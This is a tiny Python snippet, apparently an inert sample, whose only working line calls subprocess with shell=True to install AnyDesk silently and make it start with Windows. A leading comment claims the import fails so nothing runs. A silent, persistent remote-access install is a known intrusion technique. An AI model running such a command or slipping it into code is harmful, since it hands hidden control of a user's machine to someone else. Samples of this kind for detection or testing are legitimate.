import inert_sample  # there is no such module: nothing below ever runs
import subprocess

subprocess.run("anydesk.exe --install C:/a --start-with-win --silent", shell=True)
